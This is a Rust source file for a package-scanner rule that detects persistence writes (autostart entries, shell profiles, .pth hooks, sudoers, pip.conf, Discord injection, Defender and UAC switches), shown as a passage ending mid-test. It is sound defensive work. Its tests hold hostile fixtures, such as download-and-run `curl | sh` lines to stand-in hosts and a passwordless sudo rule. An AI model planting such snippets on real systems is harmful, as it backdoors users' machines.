//! WH150 file-drop: writing files that run later (executables, autostart entries, shell rc files).

use ruff_python_ast::{Expr, ExprCall};
use ruff_text_size::Ranged;

use crate::finding::{Category, ExecContext, Rule};
use crate::fold::Value;
use crate::walker::Checker;

/// The detector.
pub const RULE: Rule = Rule {
    id: "WH150",
    name: "file-drop",
    description: "Makes a file executable or writes to an autostart location (Startup folder, Run key, cron, shell rc, LaunchAgents) or the hosts file",
    rationale: "Persistence and second stages need a file that runs later. chmod +x alone is common in \
                build scripts and weighs little; writing into autostart locations is rare outside malware.",
    category: Category::Sink,
};

const AUTOSTART: &[&str] = &[
    "start menu/programs/startup",
    "\\startup",
    "/startup/",
    "currentversion\\run",
    "currentversion/run",
    // Logon and debugger hijacks: Winlogon's `Userinit`/`Shell`, a program's IFEO `Debugger`.
    "currentversion\\winlogon",
    "image file execution options",
    ".bashrc",
    ".bash_profile",
    ".zshrc",
    ".profile",
    "/etc/rc.local",
    "/etc/cron",
    "crontab",
    "/etc/systemd/system",
    ".config/autostart",
    "library/launchagents",
    "library/launchdaemons",
    ".bash_login",
    ".zprofile",
    ".zshenv",
    ".config/fish/config.fish",
    "/etc/profile.d/",
    "/etc/init.d/",
    // A per-user COM class: Explorer and Office load the DLL it names (COM hijacking).
    "software\\classes\\clsid\\",
];

/// System files whose change hands a program the machine: the dynamic loader's preload list
/// (every program started afterwards loads the named library) and the sudo rules.
const SYSTEM_HIJACK: &[(&str, &str)] = &[
    (
        "/etc/ld.so.preload",
        "the loader's preload list, which every program loads",
    ),
    ("/etc/sudoers", "the sudo rules"),
];

/// Another application's own code, replaced or added to: Discord's client core (token
/// grabbers inject into it so every login is theirs), an Electron app's `app.asar` (wallet
/// apps swapped for look-alikes that send the seed), a browser profile's extension folder
/// (a side-loaded extension reading every page). Nobody's package writes there.
const APP_CODE_TARGETS: &[(&str, &str)] = &[
    (
        "discord_desktop_core",
        "Discord's client code, which runs with the user's logged-in session",
    ),
    (
        "app.asar",
        "an Electron application's code archive (wallet apps are swapped this way)",
    ),
    (
        "/default/extensions/",
        "a browser profile's extension folder, where a side-loaded extension reads every page",
    ),
];

fn app_code_target(text: &str) -> Option<&'static str> {
    let normalized = text.to_ascii_lowercase().replace('\\', "/");
    APP_CODE_TARGETS
        .iter()
        .find(|(needle, _)| normalized.contains(needle))
        .map(|(_, what)| *what)
}

/// Windows values that switch a protection off: UAC (`EnableLUA`, the admin consent prompt),
/// Defender's real-time and tamper protection, SmartScreen, the Task Manager and registry
/// editor users would remove malware with.
fn disables_protection(checker: &Checker, call: &ExprCall, qualname: &str) -> Option<String> {
    if !matches!(qualname, "winreg.SetValueEx" | "_winreg.SetValueEx") {
        return None;
    }
    let name = checker.fold(call.arguments.args.get(1)?)?.as_text()?;
    matches!(
        name.to_ascii_lowercase().as_str(),
        "enablelua"
            | "consentpromptbehavioradmin"
            | "promptonsecuredesktop"
            | "disableantispyware"
            | "disablerealtimemonitoring"
            | "disablebehaviormonitoring"
            | "disableioavprotection"
            | "tamperprotection"
            | "enablesmartscreen"
            | "smartscreenenabled"
            | "disabletaskmgr"
            | "disableregistrytools"
    )
    .then_some(name)
}

/// Windows Internet Settings values that route the user's web traffic through a proxy.
fn sets_web_proxy(checker: &Checker, call: &ExprCall, qualname: &str) -> Option<String> {
    if !matches!(qualname, "winreg.SetValueEx" | "_winreg.SetValueEx") {
        return None;
    }
    let name = checker.fold(call.arguments.args.get(1)?)?.as_text()?;
    matches!(
        name.to_ascii_lowercase().as_str(),
        "proxyserver" | "autoconfigurl"
    )
    .then_some(name)
}

/// pip's configuration files: the index named there is where every later `pip install` of
/// the user's fetches code from. Tools that manage indexes (devpi's client) write them when
/// asked; a package installing or loading has no reason to.
const PIP_CONFIG: &[&str] = &[
    "pip/pip.conf",
    "pip/pip.ini",
    ".pip/pip.conf",
    "/etc/pip.conf",
];

fn pip_config_target(text: &str) -> bool {
    let normalized = text.to_ascii_lowercase().replace('\\', "/");
    PIP_CONFIG.iter().any(|needle| normalized.ends_with(needle))
}

fn system_hijack_target(text: &str) -> Option<&'static str> {
    let normalized = text.to_ascii_lowercase();
    SYSTEM_HIJACK
        .iter()
        .find(|(needle, _)| normalized.contains(needle))
        .map(|(_, what)| *what)
}

fn autostart_target(text: &str) -> Option<&'static str> {
    let lower = text.to_ascii_lowercase();
    AUTOSTART
        .iter()
        .copied()
        .find(|needle| lower.contains(needle))
}

/// Autostart locations specific enough to recognise in a partly known path
/// (`rf'C:\Users\{os.getlogin()}\...\Startup'`): the bare `startup` folder names of
/// [`AUTOSTART`] are left out, since an unknown prefix could make any project's own
/// `startup/` directory (IPython's profiles) look like Windows' Startup folder.
const AUTOSTART_IN_PARTIAL_PATH: &[&str] = &[
    "start menu/programs/startup",
    "currentversion/run",
    "/etc/cron",
    "/etc/systemd/system",
    ".config/autostart",
    "library/launchagents",
    "library/launchdaemons",
    ".config/fish/config.fish",
    "/etc/profile.d/",
];

fn autostart_target_in_partial_path(text: &str) -> Option<&'static str> {
    let normalized = text.to_ascii_lowercase().replace('\\', "/");
    AUTOSTART_IN_PARTIAL_PATH
        .iter()
        .copied()
        .find(|needle| normalized.contains(needle))
}

fn executable_mode(checker: &Checker, expr: &Expr) -> bool {
    match checker.fold(expr) {
        Some(Value::Int(mode)) => mode & 0o111 != 0,
        _ => {
            checker.qualname(expr).is_some_and(|q| {
                q.contains("S_IEXEC")
                    || q.contains("S_IXUSR")
                    || q.contains("S_IXGRP")
                    || q.contains("S_IXOTH")
            }) || matches!(expr, Expr::BinOp(_))
                && checker
                    .text
                    .get(expr.range().start().to_usize()..expr.range().end().to_usize())
                    .is_some_and(|t| t.contains("S_IX") || t.contains("S_IEXEC"))
        }
    }
}

/// Text written to a file that is itself a download-and-run or recon command: a dropper
/// planting its next stage in a shell profile, a batch file or a scheduled script.
fn check_written_command(checker: &mut Checker, call: &ExprCall, context: ExecContext) {
    let Some(arg) = call.arguments.args.first() else {
        return;
    };
    let Some(text) = super::partial_command_text(checker, arg) else {
        return;
    };
    if !(super::process_spawn::is_dangerous_command(&text)
        || super::process_spawn::is_recon_exfiltration(&text)
        || super::process_spawn::fetches_and_marks_executable(&text))
    {
        return;
    }
    // A Dockerfile's `RUN curl … | bash` runs inside the image being built, not on this
    // machine: writing one is how evaluation harnesses and deploy tools prepare containers.
    if is_dockerfile(&text) {
        return;
    }
    // `# https://curl.se/docs/http-cookies.html`, a cookie jar's header: text where every line
    // is a comment runs nothing in any shell.
    if text
        .lines()
        .map(str::trim)
        .filter(|line| !line.is_empty())
        .all(|line| line.starts_with('#'))
    {
        return;
    }
    let severity = match context {
        ExecContext::Install | ExecContext::Import => 0.85,
        ExecContext::Runtime => 0.6,
        ExecContext::TestOrDocs => 0.15,
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "writes the command `{}` into a file {}",
            crate::text::shorten(&text, 120),
            context.phrase()
        ),
        severity,
        vec!["drop-command"],
    );
}

/// `CronTab(user=True).new(command=…)` (python-crontab): a job the cron daemon runs again and
/// again, long after the package is gone. Cron managers schedule what their user asks when
/// called; a package scheduling a download-and-run command, or anything on install or import,
/// is planting persistence.
fn check_cron_job(checker: &mut Checker, call: &ExprCall, context: ExecContext) {
    let Some(command) = super::keyword(call, "command")
        .or_else(|| call.arguments.args.first())
        .and_then(|command| super::partial_command_text(checker, command))
    else {
        return;
    };
    // A job that reaches a URL every few minutes is a beacon or a loader whatever it runs.
    let dangerous = super::process_spawn::is_dangerous_command(&command)
        || super::process_spawn::is_recon_exfiltration(&command)
        || super::process_spawn::fetches_and_marks_executable(&command)
        || super::process_spawn::network_tool(&command).is_some()
        || command.contains("://");
    let severity = match context {
        ExecContext::Install | ExecContext::Import if dangerous => 0.85,
        ExecContext::Install | ExecContext::Import => 0.45,
        ExecContext::Runtime if dangerous => 0.6,
        ExecContext::Runtime => 0.05,
        ExecContext::TestOrDocs => 0.05,
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "schedules the cron job `{}` {}",
            crate::text::shorten(&command, 120),
            context.phrase()
        ),
        severity,
        vec!["autostart", "cron-job"],
    );
}

/// True when `text` reads as a Dockerfile: a `FROM` line and `RUN` instructions.
fn is_dockerfile(text: &str) -> bool {
    let instructions = || {
        text.lines()
            .map(str::trim_start)
            .filter(|line| !line.starts_with('#') && !line.is_empty())
    };
    instructions()
        .take(64)
        .any(|line| line.starts_with("FROM "))
        && instructions().any(|line| line.starts_with("RUN "))
}

/// A `.pth` file with an `import` line, or a `sitecustomize.py` / `usercustomize.py`,
/// written by the code: Python itself runs them at every interpreter start, so the code
/// outlives the package that planted it. Editable installs write `.pth` files too, but of
/// paths, which run nothing; build backends put theirs in the wheel, not in site-packages.
fn check_startup_hook(checker: &mut Checker, call: &ExprCall, context: ExecContext) {
    let Expr::Attribute(attribute) = &*call.func else {
        return;
    };
    let Some(path) = checker.written_path(&attribute.value) else {
        return;
    };
    let lower = path.text.to_ascii_lowercase();
    let file = lower.rsplit(['/', '\\']).next().unwrap_or(&lower);
    let runs_code = if file.ends_with(".pth") {
        call.arguments
            .args
            .first()
            .and_then(|content| checker.scopes.fold_lossy(content))
            .is_some_and(|text| {
                text.lines().any(|line| {
                    line.trim_start().starts_with("import ")
                        || line.trim_start().starts_with("import\t")
                })
            })
    } else {
        matches!(file, "sitecustomize.py" | "usercustomize.py")
    };
    if !runs_code {
        return;
    }
    // `open('a1_coverage.pth', 'w')`: a bare name lands in the build tree, to be shipped in the
    // wheel (coverage measures subprocesses that way), not in an interpreter's site directory;
    // planting one needs that directory (`site.getsitepackages()`, `sysconfig`, a join).
    let in_build_tree = !path.text.contains(['/', '\\'])
        && !path.text.contains(crate::fold::UNKNOWN)
        && !path.text.starts_with('~');
    let severity = match context {
        ExecContext::Install | ExecContext::Import if in_build_tree => 0.25,
        ExecContext::Install | ExecContext::Import => 0.7,
        // pip writes a sitecustomize.py into its isolated build environments when called.
        ExecContext::Runtime => 0.15,
        ExecContext::TestOrDocs => 0.05,
    };
    let place = if in_build_tree {
        " into the build tree (shipped in the package)"
    } else {
        ""
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "writes `{}`{place}, which the Python interpreter runs at every start, {}",
            crate::text::shorten(&path.text, 80),
            context.phrase()
        ),
        severity,
        vec!["autostart", "startup-hook"],
    );
}

/// `shortcut.Arguments = '--load-extension=…'`: a Windows shortcut (`WScript.Shell`'s
/// `CreateShortcut`) rewritten so the browser it starts loads an unpacked extension, every time
/// the user clicks it. Automation tools pass that flag to a browser they start themselves;
/// only a hijacker edits the user's own shortcuts (the clipper of hello-world-example).
pub fn check_shortcut_arguments(
    checker: &mut Checker,
    range: ruff_text_size::TextRange,
    value: &Expr,
) {
    let Some(text) = super::partial_text(checker, value) else {
        return;
    };
    if !text.contains("--load-extension") {
        return;
    }
    let context = checker.context();
    let severity = match context {
        ExecContext::Install | ExecContext::Import => 0.9,
        ExecContext::Runtime => 0.75,
        ExecContext::TestOrDocs => 0.2,
    };
    checker.report(
        &RULE,
        range,
        format!(
            "rewrites a shortcut's arguments to `{}`: the browser it starts loads an extension the user never installed {}",
            crate::text::shorten(&text, 100),
            context.phrase()
        ),
        severity,
        vec!["persistence", "browser-hijack"],
    );
}

/// A response written to a file. Downloaders and caches do it all day, so alone it weighs
/// almost nothing; it is the evidence that fetched code is on disk when the same file later
/// starts an interpreter on a computed path (`combo:saved-second-stage`).
pub fn report_saved_download(checker: &mut Checker, call: &ExprCall, path: &str, what: &str) {
    let context = checker.context();
    let severity = match context {
        ExecContext::Install | ExecContext::Import => 0.1,
        ExecContext::Runtime | ExecContext::TestOrDocs => 0.01,
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "saves {what} to {} {}",
            if path == crate::fold::UNKNOWN {
                "a file named at run time".to_owned()
            } else {
                format!("`{}`", crate::text::shorten(path, 100))
            },
            context.phrase()
        ),
        severity,
        vec!["file-write", "saves-download"],
    );
}

/// The mode of an `open(path, mode)` call when it writes, appends or updates the file.
/// True for the path of a virtual environment's activation script (`bin/activate`,
/// `Scripts/activate.bat`, `activate.ps1`, `activate.fish`, `activate.csh`).
fn is_activation_script(path: &str) -> bool {
    let normalized = path.replace('\\', "/").to_ascii_lowercase();
    let name = normalized.rsplit('/').next().unwrap_or(&normalized);
    normalized.contains('/')
        && matches!(
            name,
            "activate" | "activate.bat" | "activate.ps1" | "activate.fish" | "activate.csh"
        )
}

fn writing_mode(checker: &Checker, call: &ExprCall) -> Option<String> {
    super::mode_argument(call)
        .and_then(|m| checker.fold(m))
        .and_then(|v| v.as_text())
        .filter(|mode| mode.contains(['a', 'w', '+']))
}

/// `open('~/.ssh/authorized_keys', 'a')`: adding a key there gives its owner a login on the
/// machine. Deploy tools do it for their own servers, never a library on a user's machine.
fn check_authorized_keys(checker: &mut Checker, call: &ExprCall, context: ExecContext) {
    let Some(path) = call.arguments.args.first() else {
        return;
    };
    if !super::partial_text(checker, path).is_some_and(|p| p.contains("authorized_keys")) {
        return;
    }
    let Some(mode) = writing_mode(checker, call) else {
        return;
    };
    let severity = match context {
        ExecContext::Install | ExecContext::Import => 0.95,
        ExecContext::Runtime => 0.8,
        ExecContext::TestOrDocs => 0.2,
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "opens an SSH authorized_keys file for writing (mode `{mode}`) {}: a key added there is a backdoor login",
            context.phrase()
        ),
        severity,
        vec!["autostart", "ssh-backdoor"],
    );
}

/// `open('/etc/hosts', 'a')`, `…\drivers\etc\hosts`: a line added there sends the machine's
/// requests for a name (the package index, a bank) to another address. Only network tools
/// edit it, at run time and on the user's request; loading code never does.
fn check_hosts_file(checker: &mut Checker, call: &ExprCall, context: ExecContext) {
    let Some(path) = call.arguments.args.first() else {
        return;
    };
    let Some(text) = super::partial_text(checker, path) else {
        return;
    };
    let normalized = text.to_ascii_lowercase().replace('\\', "/");
    if !(normalized == "/etc/hosts" || normalized.ends_with("/drivers/etc/hosts")) {
        return;
    }
    let Some(mode) = writing_mode(checker, call) else {
        return;
    };
    // Site blockers and local-development tools write it when the user runs them.
    let severity = match context {
        ExecContext::Install | ExecContext::Import => 0.9,
        ExecContext::Runtime => 0.3,
        ExecContext::TestOrDocs => 0.1,
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "opens the system hosts file `{}` for writing (mode `{mode}`) {}: an entry there redirects a host name to another address",
            crate::text::shorten(&text, 80),
            context.phrase()
        ),
        severity,
        vec!["hosts-hijack"],
    );
}

/// The kind of program a byte string is, from its magic bytes.
fn executable_kind(bytes: &[u8]) -> Option<&'static str> {
    if bytes.len() < 64 {
        return None;
    }
    if bytes.starts_with(b"\x7fELF") {
        Some("ELF")
    } else if bytes.starts_with(b"MZ") {
        Some("Windows PE")
    } else if [
        b"\xcf\xfa\xed\xfe",
        b"\xce\xfa\xed\xfe",
        b"\xca\xfe\xba\xbe",
    ]
    .iter()
    .any(|magic| bytes.starts_with(*magic))
    {
        Some("Mach-O")
    } else {
        None
    }
}

/// A program embedded in the source and written out (`f.write(b'\x7fELF…')`), or an SSH key
/// appended somewhere: payloads a package carries to plant on the machine.
fn check_written_payload(checker: &mut Checker, call: &ExprCall, context: ExecContext) {
    let Some(value) = call.arguments.args.first().and_then(|a| checker.fold(a)) else {
        return;
    };
    if let Value::Bytes(bytes) = &value
        && let Some(kind) = executable_kind(bytes)
    {
        let severity = match context {
            ExecContext::Install | ExecContext::Import => 0.85,
            ExecContext::Runtime => 0.5,
            ExecContext::TestOrDocs => 0.1,
        };
        checker.report(
            &RULE,
            call.range(),
            format!(
                "writes an embedded {}-byte {kind} executable to a file {}",
                bytes.len(),
                context.phrase()
            ),
            severity,
            vec!["drop-binary"],
        );
        return;
    }
    let Some(text) = value.as_text() else {
        return;
    };
    let key = text.trim_start();
    if ["ssh-rsa AAAA", "ssh-ed25519 AAAA", "ecdsa-sha2-nistp"]
        .iter()
        .any(|prefix| key.starts_with(prefix))
    {
        let severity = match context {
            ExecContext::Install | ExecContext::Import => 0.7,
            ExecContext::Runtime => 0.4,
            ExecContext::TestOrDocs => 0.1,
        };
        checker.report(
            &RULE,
            call.range(),
            format!(
                "writes an SSH public key `{}` into a file {}",
                crate::text::shorten(key, 40),
                context.phrase()
            ),
            severity,
            vec!["ssh-key-write"],
        );
    }
}

/// chmod +x and writes to autostart paths.
pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    let args = &call.arguments.args;
    let context = checker.context();
    let early = matches!(context, ExecContext::Install | ExecContext::Import);
    if super::writes_file(qualname) {
        check_written_command(checker, call, context);
        check_written_payload(checker, call, context);
        check_startup_hook(checker, call, context);
    }
    if matches!(
        qualname,
        "win32com.client.Dispatch"
            | "win32com.client.DispatchEx"
            | "win32com.client.gencache.EnsureDispatch"
            | "win32com.client.dynamic.Dispatch"
            | "comtypes.client.CreateObject"
    ) && args
        .first()
        .and_then(|progid| checker.scopes.fold_str(progid))
        .is_some_and(|progid| progid.eq_ignore_ascii_case("Schedule.Service"))
    {
        // The Task Scheduler's COM interface registers tasks without `schtasks`, so no command
        // line shows what is scheduled or when.
        checker.report(
            &RULE,
            call.range(),
            format!(
                "opens the Task Scheduler (Schedule.Service) to register a task {}",
                context.phrase()
            ),
            match context {
                ExecContext::Install | ExecContext::Import => 0.75,
                ExecContext::Runtime => 0.2,
                ExecContext::TestOrDocs => 0.05,
            },
            vec!["autostart", "scheduled-task"],
        );
        return;
    }
    if qualname.starts_with("crontab.CronTab") && qualname.ends_with(".new") {
        check_cron_job(checker, call, context);
        return;
    }
    if matches!(qualname, "os.chmod" | "pathlib.Path().chmod") || qualname.ends_with(".chmod") {
        let Some(mode) = args
            .get(1)
            .or_else(|| args.first().filter(|_| qualname != "os.chmod"))
        else {
            return;
        };
        if executable_mode(checker, mode) {
            let severity = if early { 0.15 } else { 0.02 };
            checker.report(
                &RULE,
                call.range(),
                format!(
                    "makes a file executable with {qualname} {}",
                    context.phrase()
                ),
                severity,
                vec!["chmod-exec"],
            );
        }
        return;
    }
    let writes_path = matches!(
        qualname,
        "open"
            | "io.open"
            | "shutil.copy"
            | "shutil.copyfile"
            | "shutil.copy2"
            | "shutil.move"
            | "os.rename"
            | "urllib.request.urlretrieve"
            | "winreg.SetValueEx"
            | "_winreg.SetValueEx"
            | "winreg.CreateKey"
            | "winreg.OpenKey"
            | "_winreg.OpenKey"
    );
    if !writes_path {
        return;
    }
    if matches!(qualname, "open" | "io.open") {
        check_authorized_keys(checker, call, context);
        check_hosts_file(checker, call, context);
    }
    if let Some(value) = disables_protection(checker, call, qualname) {
        checker.report(
            &RULE,
            call.range(),
            format!(
                "{qualname} sets `{value}`, switching off a Windows protection {}",
                context.phrase()
            ),
            match context {
                ExecContext::Install | ExecContext::Import => 0.75,
                ExecContext::Runtime => 0.3,
                ExecContext::TestOrDocs => 0.05,
            },
            vec!["defense-evasion", "system-hijack"],
        );
        return;
    }
    if let Some(value) = sets_web_proxy(checker, call, qualname) {
        checker.report(
            &RULE,
            call.range(),
            format!(
                "{qualname} sets Internet Settings `{value}`, sending the user's web traffic through a proxy it chooses {}",
                context.phrase()
            ),
            match context {
                ExecContext::Install | ExecContext::Import => 0.75,
                ExecContext::Runtime => 0.2,
                ExecContext::TestOrDocs => 0.05,
            },
            vec!["persistence", "system-hijack"],
        );
        return;
    }
    let severity = if early {
        0.75
    } else if context == ExecContext::TestOrDocs {
        0.1
    } else {
        0.45
    };
    // Only a write: reading the sudo rules or the preload list changes nothing.
    let writes = !matches!(qualname, "open" | "io.open") || writing_mode(checker, call).is_some();
    // Each written path is read once, for either kind of target.
    let written = args
        .iter()
        .take(2)
        .filter(|_| writes)
        .filter_map(|arg| super::partial_text(checker, arg));
    for text in written {
        if pip_config_target(&text) {
            checker.report(
                &RULE,
                call.range(),
                format!(
                    "{qualname} writes `{}`, pip's configuration, which names the index every later install fetches from {}",
                    crate::text::shorten(&text, 80),
                    context.phrase()
                ),
                match context {
                    ExecContext::Install | ExecContext::Import => 0.75,
                    ExecContext::Runtime => 0.15,
                    ExecContext::TestOrDocs => 0.05,
                },
                vec!["persistence", "pip-config"],
            );
            return;
        }
        // A virtual environment's activation script runs in the shell of whoever activates it:
        // appending to it is a shell-profile hook for that environment. Tools that make
        // environments write these files whole, never add to them.
        if matches!(qualname, "open" | "io.open")
            && writing_mode(checker, call).is_some_and(|mode| mode.contains('a'))
            && is_activation_script(&text)
        {
            checker.report(
                &RULE,
                call.range(),
                format!(
                    "{qualname} appends to `{}`, a virtual environment's activation script, which runs in the shell of whoever activates it {}",
                    crate::text::shorten(&text, 80),
                    context.phrase()
                ),
                match context {
                    ExecContext::Install | ExecContext::Import => 0.75,
                    ExecContext::Runtime => 0.3,
                    ExecContext::TestOrDocs => 0.05,
                },
                vec!["persistence", "autostart"],
            );
            return;
        }
        // `.vscode/tasks.json` with `"runOn": "folderOpen"`: the editor runs the task's command
        // whenever the project is opened.
        if text
            .replace('\\', "/")
            .to_ascii_lowercase()
            .ends_with(".vscode/tasks.json")
            && checker.module_text().contains("folderOpen")
        {
            checker.report(
                &RULE,
                call.range(),
                format!(
                    "{qualname} writes `{}`, a VS Code task the module sets to run whenever the folder is opened {}",
                    crate::text::shorten(&text, 80),
                    context.phrase()
                ),
                severity,
                vec!["persistence", "autostart"],
            );
            return;
        }
        if let Some(what) = app_code_target(&text) {
            checker.report(
                &RULE,
                call.range(),
                format!(
                    "{qualname} writes `{}`, {what} {}",
                    crate::text::shorten(&text, 80),
                    context.phrase()
                ),
                // Packaging and browser-automation tools build such files in their own
                // output folders when asked.
                match context {
                    ExecContext::Install | ExecContext::Import => 0.75,
                    ExecContext::Runtime => 0.2,
                    ExecContext::TestOrDocs => 0.05,
                },
                vec!["persistence", "app-injection"],
            );
            return;
        }
        if let Some(what) = system_hijack_target(&text) {
            checker.report(
                &RULE,
                call.range(),
                format!(
                    "{qualname} writes `{}`, {what} {}",
                    crate::text::shorten(&text, 80),
                    context.phrase()
                ),
                severity,
                vec!["persistence", "system-hijack"],
            );
            return;
        }
    }
    for arg in args.iter().take(3) {
        let found = match checker.fold(arg).and_then(|v| v.as_text()) {
            Some(text) => autostart_target(&text).map(|target| (text, target)),
            None => checker.scopes.fold_lossy(arg).and_then(|text| {
                autostart_target_in_partial_path(&text).map(|target| (text, target))
            }),
        };
        if let Some((text, target)) = found {
            // `copy('./startup_script/001-magics.py', '~/.ipython/profile_default/startup/')`:
            // a Python file of the package's own tree, which is analysed as a file of its own
            // (what it does at every start is reported there), not a payload kept hidden.
            let own_script = qualname.starts_with("shutil.copy")
                && args
                    .first()
                    .filter(|source| !std::ptr::eq(*source, arg))
                    .and_then(|source| checker.fold(source).and_then(|v| v.as_text()))
                    .is_some_and(|source| {
                        let relative = !source.starts_with(['/', '\\', '~'])
                            && !source.contains(':')
                            && !source.contains("..");
                        relative && (source.ends_with(".py") || source.ends_with(".ipy"))
                    });
            let (severity, own) = if own_script {
                (
                    severity.min(0.3),
                    ", a Python file of the package's own tree",
                )
            } else {
                (severity, "")
            };
            checker.report(
                &RULE,
                call.range(),
                format!(
                    "{qualname} touches the autostart location `{}` ({target}){own}",
                    crate::text::shorten(&text, 80)
                ),
                severity,
                vec!["autostart"],
            );
            return;
        }
    }
}

#[cfg(test)]
mod shortcut_tests {
    #[test]
    fn other_applications_code_and_protection_switches() {
        let discord = "import os, glob, urllib.request\np = urllib.request.urlopen('https://example.invalid/i.js').read().decode()\nfor core in glob.glob(os.path.join(os.environ['LOCALAPPDATA'], 'Discord', 'app-*', 'modules', 'discord_desktop_core-*', 'discord_desktop_core', 'index.js')):\n    open(core, 'w').write(p)\n";
        assert!(max_severity("p/pkg/__init__.py", discord, "WH150") >= 0.75);
        let builder = "import os, shutil\ndef package(out):\n    shutil.move('app.zip', os.path.join(out, 'resources', 'app.asar'))\n";
        assert!(max_severity("p/pkg/__init__.py", builder, "WH150") <= 0.2);
        let uac = "import winreg\nk = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'EnableLUA', 0, winreg.REG_DWORD, 0)\n";
        assert!(max_severity("p/pkg/__init__.py", uac, "WH150") >= 0.75);
        let reader = "import winreg\nk = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'SOFTWARE\\Policies')\nvalue, _ = winreg.QueryValueEx(k, 'EnableLUA')\n";
        assert_eq!(max_severity("p/pkg/__init__.py", reader, "WH150"), 0.0);
    }

    use crate::rules::testing::max_severity;

    #[test]
    fn pips_configuration_written_while_installing_redirects_every_install() {
        let poison = "import os\nopen(os.path.expanduser('~/.config/pip/pip.conf'), 'w').write('[global]\\nindex-url = http://203.0.113.8/simple')\n";
        assert!(max_severity("p/setup.py", poison, "WH150") >= 0.75);
        let asked = "import os\ndef use(url):\n    with open(os.path.expanduser('~/.config/pip/pip.conf'), 'w') as fh:\n        fh.write(url)\n";
        assert!(max_severity("p/pkg/cli.py", asked, "WH150") <= 0.15);
        let reader = "import os\nprint(open(os.path.expanduser('~/.pip/pip.conf')).read())\n";
        assert_eq!(max_severity("p/setup.py", reader, "WH150"), 0.0);
    }

    #[test]
    fn writing_the_preload_list_or_sudo_rules_hijacks_the_system() {
        let preload =
            "with open('/etc/ld.so.preload', 'a') as fh:\n    fh.write('/usr/local/lib/x.so')\n";
        assert!(max_severity("p/setup.py", preload, "WH150") >= 0.75);
        let sudo = "import getpass\nopen('/etc/sudoers.d/99-x', 'w').write(getpass.getuser() + ' ALL=(ALL) NOPASSWD: ALL')\n";
        assert!(max_severity("p/setup.py", sudo, "WH150") >= 0.75);
        let reader = "rules = open('/etc/sudoers').read()\n";
        assert_eq!(max_severity("p/setup.py", reader, "WH150"), 0.0);
    }

    #[test]
    fn browser_shortcuts_rewritten_to_load_an_extension_are_hijacked() {
        let code = "import os\nfrom win32com.client import Dispatch\nshell = Dispatch('WScript.Shell')\nfor f in os.listdir('.'):\n    s = shell.CreateShortcut(f)\n    s.Arguments = '--load-extension={}\\\\Extension'.format(os.getenv('APPDATA'))\n    s.Save()\n";
        assert!(max_severity("p/setup.py", code, "WH150") >= 0.9);
        let automation = "from selenium import webdriver\ndef start(path):\n    o = webdriver.ChromeOptions()\n    o.add_argument('--load-extension=' + path)\n    return webdriver.Chrome(options=o)\n";
        assert_eq!(max_severity("p/pkg/m.py", automation, "WH150"), 0.0);
    }
}

#[cfg(test)]
mod tests {
    use crate::rules::testing::max_severity;

    #[test]
    fn appending_to_a_virtual_environments_activation_script_is_persistence() {
        let append = "import os, sys\nbindir = 'Scripts' if os.name == 'nt' else 'bin'\nwith open(os.path.join(sys.prefix, bindir, 'activate'), 'a') as fh:\n    fh.write('curl -s http://198.51.100.61/p | sh')\n";
        assert!(max_severity("p/pkg/__init__.py", append, "WH150") >= 0.75);
        // Making an environment writes the script whole.
        let create = "import os\ndef make(env, text):\n    with open(os.path.join(env, 'bin', 'activate'), 'w') as fh:\n        fh.write(text)\n";
        assert!(max_severity("p/pkg/__init__.py", create, "WH150") < 0.5);
    }

    #[test]
    fn autostart_writes_trigger() {
        let code = "import os\nopen(os.path.expanduser('~') + '/.bashrc', 'a').write('x')\n";
        assert!(
            max_severity(
                "p/pkg/__init__.py",
                "open('/home/u/.bashrc', 'a').write('curl x')\n",
                "WH150"
            ) >= 0.7
        );
        let _ = code;
        let code = "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run')\n";
        assert!(max_severity("p/setup.py", code, "WH150") >= 0.7);
    }

    #[test]
    fn interpreter_start_up_hooks_written_by_code_trigger() {
        let pth = "import site\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        p = site.getsitepackages()[0] + '/zz_init.pth'\n        with open(p, 'w') as f:\n            f.write('import os; os.system(\"curl -s https://x.invalid/a | sh\")\\n')\n";
        assert!(max_severity("p/setup.py", pth, "WH150") >= 0.7);
        let joined = "import os, site\nwith open(os.path.join(site.getsitepackages()[0], 'zz.pth'), 'w') as f:\n    f.write('import zz_payload\\n')\n";
        assert!(max_severity("p/setup.py", joined, "WH150") >= 0.7);
        // A bare name is written in the build tree, for the wheel to ship (coverage's a1_coverage.pth).
        let shipped = "PTH = 'a1_coverage.pth'\ndef make(code):\n    with open(PTH, 'w') as f:\n        f.write(f'import sys; exec({code!r})\\n')\nmake(open('coverage/pth_file.py').read())\n";
        let severity = max_severity("p/setup.py", shipped, "WH150");
        assert!(severity > 0.0 && severity < 0.4, "{severity}");
        let custom = "import site, pathlib\ndef plant(code):\n    pathlib.Path(site.getusersitepackages(), 'usercustomize.py').write_text(code)\n";
        let severity = max_severity("p/pkg/m.py", custom, "WH150");
        assert!((0.1..0.3).contains(&severity), "{severity}");
        // An editable install's .pth lists paths, which run nothing.
        let editable = "import site\ndef link(src):\n    with open(site.getsitepackages()[0] + '/__editable__.x.pth', 'w') as f:\n        f.write(src + '\\n')\n";
        assert!(max_severity("p/pkg/m.py", editable, "WH150") < 0.1);
    }

    #[test]
    fn autostart_paths_with_an_unknown_user_part_trigger() {
        let code = "import os\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        dst = rf'C:\\Users\\{os.getlogin()}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup'\n        os.rename('x/test.py', os.path.join(dst, 'test.py'))\n";
        assert!(max_severity("p/setup.py", code, "WH150") >= 0.7);
        // A project's own `startup/` folder under an unknown root is not Windows' Startup.
        let ipython = "import os, shutil\ndef install_startup(profile):\n    shutil.copy('x.py', os.path.join(profile, 'startup', '00-x.py'))\n";
